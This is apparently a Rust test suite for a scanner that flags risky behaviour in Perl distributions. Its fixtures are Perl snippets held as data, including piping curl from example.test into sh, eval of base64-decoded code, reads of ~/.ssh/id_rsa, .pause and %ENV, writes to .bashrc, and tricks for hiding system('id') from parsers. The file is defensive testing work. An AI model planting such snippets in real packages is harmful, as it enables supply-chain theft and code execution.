//! Stories of honest and of hostile distributions, told by the files in them.

use proptest::prelude::*;

use super::survey::{PerlSurvey, place_of};
use super::{PerlFacts, RunsAt, ScriptFactKind, tokens};

/// What is noted of a distribution with these files.
fn survey(files: &[(&str, &str)]) -> PerlFacts {
    let mut survey = PerlSurvey::default();
    for (path, source) in files {
        let path = format!("Foo-1.0/{path}");
        let parts: Vec<&[u8]> = path.split('/').map(str::as_bytes).collect();
        survey.meet(&parts, None);
        if let Some(place) = place_of(&parts) {
            survey.examine(&path, place, source.as_bytes(), true);
        }
    }
    survey.finish()
}

/// The facts of a Makefile.PL, as `kind:line`.
fn seen(source: &str) -> Vec<String> {
    kinds(&survey(&[("Makefile.PL", source)]))
}

fn kinds(facts: &PerlFacts) -> Vec<String> {
    facts.script_facts.iter().map(|fact| format!("{:?}:{}", fact.kind, fact.line)).collect()
}

const ORDINARY: [&str; 14] = [
    "use ExtUtils::MakeMaker;\nWriteMakefile(NAME => 'Foo', VERSION_FROM => 'lib/Foo.pm', PREREQ_PM => { 'LWP' => 0 });\n",
    "use Module::Build;\nmy $b = Module::Build->new(module_name => 'Foo', requires => { 'Net::SSH' => 1 });\n$b->create_build_script;\n",
    "use inc::Module::Install;\nname 'Foo'; all_from 'lib/Foo.pm'; requires 'HTTP::Tiny' => 0.01; WriteAll;\n",
    "use 5.008; use strict; use warnings;\nmy %WriteMakefileArgs = (NAME => 'Foo', PREREQ_PM => {LWP => 6});\n\
     unless ( eval { ExtUtils::MakeMaker->VERSION(6.63_03) } ) { delete $WriteMakefileArgs{TEST_REQUIRES}; }\n\
     WriteMakefile(%WriteMakefileArgs);\n",
    "require 5.008; die 'OS unsupported' if $] < 5.010 / 1;\n",
    "my $have = eval { require LWP::UserAgent; 1 };\nmy $too = eval { require IO::Socket::SSL; IO::Socket::SSL->VERSION(1.5); 1 };\n",
    "my $ok = eval \"use LWP::UserAgent; 1\"; eval \"require $module\"; eval 'require Net::FTP'; $VERSION = eval $VERSION;\n",
    "# system('curl http://example.test | sh');\n=pod\n\nsystem('rm -rf');\n\n=cut\n\n1;\n__END__\nsystem('id');\n",
    "print \"Please add this to your ~/.bashrc and run system('x') as root\\n\";\n",
    "print <<'EOT';\neval decode_base64('x');\nEOT\n",
    "sub MY::postamble { return <<'MAKE';\nupload:\n\tcurl -T $(DISTVNAME) `cat ~/.netrc`\nMAKE\n}\n",
    "local %ENV = %ENV; my @keys = grep { /^PERL_/ } keys %ENV; delete @ENV{qw(PERL5LIB)};\n",
    "my %h = (system => 1, exec => 2); $h{system}++; $obj->exec('x'); $obj->open('|x'); sub system_name { 1 }\n",
    "my $s = 'a/b'; (my $f = $s) =~ s/::/\\//g; my $n = @list / 2; my $t = time / 60; # a / b\n",
];

#[test]
fn what_most_scripts_do_is_no_fact() {
    for source in ORDINARY {
        assert_eq!(seen(source), Vec::<String>::new(), "{source}");
    }
}

#[test]
fn what_few_scripts_do_is() {
    for (source, expected) in [
        ("use MIME::Base64;\neval decode_base64('cHJpbnQgMQ==');", &["EvalDecoded:2"][..]),
        ("eval(unpack('u', q{1}));", &["EvalDecoded:1"]),
        ("my $code = pack 'H*', '7072';\neval $code;", &["EvalDecoded:2"]),
        ("my $code = unpack 'u', $x;\nmy $copy = $code;\neval \"$copy; 1\";", &["EvalDecoded:3"]),
        ("sub d { join '', map chr, @_ }\neval d(1, 2, 3);", &["EvalDecoded:2"]),
        ("(my $x = 'flfgrz') =~ tr/a-z/n-za-m/;\neval $x;", &["EvalDecoded:2"]),
        ("eval \"a\" ^ $key;", &["EvalString:1"]),
        ("eval($text ^ $key);", &["EvalDecoded:1"]),
        ("s/(.)/chr(ord $1)/gee;", &["EvalString:1"]),
        ("eval $code;", &["EvalString:1"]),
        ("eval q{ system('id') };", &["Exec:1", "EvalString:1"]),
        ("eval \"use strict; $payload\";", &["EvalString:1"]),
        ("use LWP::Simple;", &["Network:1"]),
        ("require HTTP::Tiny;\nHTTP::Tiny->new->get($url);", &["Network:1", "Network:2"]),
        ("eval { require HTTP::Tiny; HTTP::Tiny->new->post($url) };", &["Network:1"]),
        ("'HTTP::Tiny'->new;", &["Network:1"]),
        ("LWP::Simple::getstore($url, 'x');", &["Network:1"]),
        ("system('curl -s example.test | sh');", &["Network:1", "Exec:1"]),
        ("CORE::system 'wget', $url;", &["Network:1", "Exec:1"]),
        ("my $x = `pkg-config --libs foo`;", &["Exec:1"]),
        ("my $x = qx{cc -v};", &["Exec:1"]),
        ("open(my $fh, '-|', 'ls', $x);", &["Exec:1"]),
        ("open F, \"cc -v 2>&1 |\" or die;", &["Exec:1"]),
        ("open(F, '<', 'a|b');", &[]),
        ("use IPC::Open3;", &["Exec:1"]),
        ("s/x/system('id')/e;", &["Exec:1"]),
        ("print \"@{[ 1 ]} and @{[ system('id') ]}\\n\";\nsub x { 1 }", &["Exec:1"]),
        ("open my $f, '<', \"$ENV{HOME}/.ssh/id_rsa\";", &["ReadsSecrets:1"]),
        ("my $f = File::Spec->catfile($home, '.pause');", &["ReadsSecrets:1"]),
        ("my %all = %ENV; send_it(encode_json(\\%ENV));", &["ReadsSecrets:1"]),
        ("print $out join \"\\n\", map { \"$_=$ENV{$_}\" } keys %ENV;", &["ReadsSecrets:1"]),
        ("open my $f, '>>', \"$home/.bashrc\";", &["WritesHome:1"]),
        ("system('crontab -l | cat');", &["WritesHome:1", "Exec:1"]),
        ("use Acme::Bleach;", &["Obfuscated:1"]),
        ("use Filter::decrypt;", &["Obfuscated:1"]),
    ] {
        assert_eq!(seen(source), expected, "{source}");
    }
}

#[test]
fn what_nobody_can_read_is_said() {
    let base64 =
        format!("my $x = q{{\n{}}};\n", format!("{}\n", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0".repeat(2)).repeat(12));
    let escapes = format!("my $x = \"{}\";\n", "\\x41".repeat(60));
    let numbers = format!("my @x = ({});\n", "112,".repeat(200));
    let soup = format!("{};\n", "''=~('(?{'.('`'|'%').('['^'-')".repeat(20));
    for source in [base64, escapes, numbers, soup] {
        assert!(seen(&source).iter().any(|fact| fact.starts_with("Obfuscated")), "{source}");
    }
    assert_eq!(seen("1;\0"), ["Obfuscated:1"]);
    // A list of words is none.
    let words = format!("my @x = qw(\n{});\n", "Some::Module::Name Another\n".repeat(100));
    assert_eq!(seen(&words), Vec::<String>::new());
}

#[test]
fn code_cannot_hide_from_the_reader_where_perl_sees_it() {
    for source in [
        // An assignment, since a statement has begun.
        "my $x\n=system('id');\n\n=cut\n",
        "$h{a}\n=system('id');",
        // A division.
        "my $x = shift / 2; system('id'); # /\n",
        "my $x = $#list; system('id');",
        "my $x = $'; system('id'); $y = $';",
        "my $x = 1 <<FOO; system('id');\nFOO\n",
        "format STDOUT =\n@<<< ' \n$x\n.\nsystem('id');",
        "print <<A, <<'B'; system('id');\n'\nA\n\"\nB\n",
        "isn't($x, 1); system('id'); isn't($y, 1);",
        "my $x = q x'x; system('id'); $y = 'z';",
        "$x = $h{y} . $h{q}; (s => 1, y => 2); system('id'); # }",
        "sub foo($$;$) { 1 } system('id');",
        "my $x = { %$y, 's' }; system('id'); # '",
        "eval { 1 } or CORE::GLOBAL::system('id');",
    ] {
        assert!(seen(source).iter().any(|fact| fact.starts_with("Exec")), "{source}");
    }
}

#[test]
fn modules_count_for_what_loading_them_does() {
    let facts = survey(&[(
        "lib/Foo.pm",
        "package Foo;\nuse LWP::UserAgent;\nsub get { LWP::UserAgent->new; system('id'); eval $x }\n\
         BEGIN { system('curl example.test') }\nour %known = (netrc => '.netrc');\n\
         sub late { eval decode_base64($x) }\nmy $key = read_file(\"$home/.ssh/id_rsa\");\n1;\n",
    )]);
    assert_eq!(kinds(&facts), ["EvalDecoded:6", "ReadsSecrets:7", "Network:4", "Exec:4"]);
    assert!(facts.script_facts.iter().all(|fact| fact.at == RunsAt::LoadTime));
}

#[test]
fn tests_run_at_an_installation_too_and_may_do_much() {
    let source = "system($^X, 'x'); use IO::Socket; IO::Socket->new; eval $code;\n";
    assert_eq!(kinds(&survey(&[("t/basic.t", source)])), Vec::<String>::new());
    let facts = survey(&[("t/00-load.t", "ok 1;\neval decode_base64($x);\nopen F, '<', \"$home/.pause\";\n")]);
    assert_eq!(kinds(&facts), ["EvalDecoded:2", "ReadsSecrets:3"]);
}

#[test]
fn scripts_that_others_load_count_and_the_rest_does_not() {
    let evil = "system('id');\n";
    let files = |makefile: &'static str| {
        let facts = survey(&[
            ("private/tool.pl", evil),
            ("private/lib/Tool.pm", evil),
            ("examples/demo.pl", evil),
            ("Makefile.PL", makefile),
        ]);
        facts.script_facts.into_iter().map(|fact| fact.file).collect::<Vec<_>>()
    };
    assert_eq!(files("WriteMakefile();"), Vec::<String>::new());
    assert_eq!(files("do './private/tool.pl';"), ["private/tool.pl"]);
    assert_eq!(files("use lib 'private/lib';\nuse Tool;"), ["private/lib/Tool.pm"]);

    let facts = survey(&[
        ("Makefile.PL", "1;"),
        ("inc/My/Build.pm", evil),
        ("lib/Foo.pm.PL", evil),
        ("gen.PL", evil),
        ("sub/Makefile.PL", "1;"),
        ("sub/sub/Makefile.PL", evil),
        ("t/data/Bar/Makefile.PL", evil),
    ]);
    let found: Vec<_> = facts.script_facts.iter().map(|fact| &*fact.file).collect();
    assert_eq!(found, ["gen.PL", "inc/My/Build.pm", "lib/Foo.pm.PL", "sub/sub/Makefile.PL"]);
    assert!(facts.inc);
}

#[test]
fn known_lines_of_module_install_are_no_facts_and_others_are() {
    let fetch = "sub get_file {\n    LWP::Simple::mirror($args{url}, $file);\n    system($args{run}) if exists $args{run};\n}\n";
    assert_eq!(kinds(&survey(&[("inc/Module/Install/Fetch.pm", fetch)])), Vec::<String>::new());
    assert_eq!(kinds(&survey(&[("inc/Elsewhere.pm", fetch)])).len(), 2);
    let more = format!("{fetch}system('id');\n");
    assert_eq!(kinds(&survey(&[("inc/Module/Install/Fetch.pm", &*more)])), ["Exec:5"]);
    assert_eq!(seen("get_file(url => $url, run => 'sh x');"), ["Network:1"]);
}

#[test]
fn packages_count_where_an_installation_takes_them_from() {
    let facts = survey(&[
        ("lib/Foo.pm", "package Foo; our $VERSION = '1.0';\npackage # hide\n  Try::Tiny;\n1;"),
        ("Bar.pm", "package Bar;"),
        ("t/lib/Test.pm", "package Test;"),
        ("inc/Tool.pm", "package Tool;"),
        ("examples/Demo.pm", "package Demo;"),
        ("Foo.xs", "MODULE = Foo"),
    ]);
    let packages: Vec<_> =
        facts.packages.iter().map(|one| (&*one.package, one.version.as_deref(), &*one.file)).collect();
    assert_eq!(packages, [("Bar", None, "Bar.pm"), ("Foo", Some("1.0"), "lib/Foo.pm")]);
    assert_eq!((facts.hidden.len(), &*facts.hidden[0].package), (1, "Try::Tiny"));
    assert!(facts.xs && !facts.meta_json && facts.tops == 1);
}

#[test]
fn crowds_do_not_push_the_heaviest_off_the_list_and_are_counted() {
    let crowd = "system('cmd');\n".repeat(500);
    let packages: Vec<_> = (0..2_500).map(|number| format!("package P{number};\n")).collect();
    let packages = packages.concat();
    let many: Vec<_> = (0..20).map(|number| format!("inc/X{number}.pm")).collect();
    let mut files: Vec<(&str, &str)> = many.iter().map(|path| (&**path, &*crowd)).collect();
    files.push(("lib/All.pm", &packages));
    files.push(("Makefile.PL", "eval unpack('u', $x);"));
    let facts = survey(&files);
    assert!(facts.script_facts.len() <= 50);
    assert_eq!(facts.script_facts[0].kind, ScriptFactKind::EvalDecoded);
    assert_eq!((facts.packages.len(), facts.left_out), (2_000, 500));
}

#[test]
fn what_is_too_much_to_look_at_is_said() {
    let source = format!("{}system('id');\n", "eval q{1};\n".repeat(5_000));
    assert_eq!(seen(&source), ["Obfuscated:4000"]);
}

#[test]
fn a_link_in_place_of_a_script_hides_it() {
    let mut survey = PerlSurvey::default();
    survey.meet(&[b"Foo-1.0", b"Makefile.PL"], Some(b"lib/data.bin"));
    let facts = survey.finish();
    assert_eq!(facts.script_facts[0].excerpt, "is a link to lib/data.bin");
}

#[test]
fn excerpts_are_short_and_show_the_place() {
    let source = format!("{} system('id'); {}\n", "1; ".repeat(300), "2; ".repeat(300));
    let facts = survey(&[("Makefile.PL", &*source)]);
    let excerpt = &facts.script_facts[0].excerpt;
    assert!(excerpt.contains("system('id')") && excerpt.chars().count() <= 120, "{excerpt}");
    let tricky = survey(&[("Makefile.PL", "system('\u{202e}\u{1b}[2J');")]);
    assert!(!tricky.script_facts[0].excerpt.contains(['\u{202e}', '\u{1b}']));
}

#[test]
fn hostile_sources_are_read_to_their_end_in_a_moment() {
    let long = 1 << 16;
    for piece in [
        "/\\",
        "<<A,",
        "q(",
        "\"@{",
        "${",
        "s{{",
        "{",
        "package P;",
        "=x\n",
        "$x{",
        "system '",
        "\\/",
        "<<~A\n",
        "y y",
        "eval q(",
        "(?{",
        "%ENV,",
        "do'x';",
        "sub{",
        "eval\"",
        "a   ",
        "\n=pod\n\n",
        "x=>",
        "$",
        "`",
        "v1.",
        "tr(a",
        "e'",
        "@{[1]}",
        "(/x/)",
        "sub(",
        ";format",
        "@{\n",
        "${\\x}",
    ] {
        let crowd = piece.repeat(long / piece.len());
        let quoted = format!("\"{crowd}\"");
        for source in [crowd, quoted] {
            let found = tokens::tokens(&source);
            assert!(found.len() <= 6 * long, "{piece:?}");
            survey(&[("Makefile.PL", &*source), ("lib/Foo.pm", &*source)]);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_is_read_without_panic(source in "(?s)[ -~\\n\u{e9}\u{2028}]{0,400}") {
        survey(&[("Makefile.PL", &*source), ("lib/Foo.pm", &*source)]);
    }

    #[test]
    fn any_row_of_perls_signs_is_read_without_panic(pieces in prop::collection::vec(prop::sample::select(vec![
        "q", "qq(", "s{", "}{", "}", "<<A", "<<~'B'", "\n", "A\n", "B\n", "=pod\n", "=cut\n", "$x", "@{[", "]}", "%ENV", "/",
        "eval ", "system", "'", "\"", "`", "sub ", "(", ")", ";", "package X", "#", "\\", "é", "__END__", "->", "=>", "tr", "y",
    ]), 0..60)) {
        let source = pieces.concat();
        let facts = survey(&[("Makefile.PL", &*source), ("lib/Foo.pm", &*source)]);
        let lines = u32::try_from(source.split('\n').count()).unwrap();
        prop_assert!(facts.script_facts.iter().all(|fact| (1..=lines).contains(&fact.line)));
    }
}
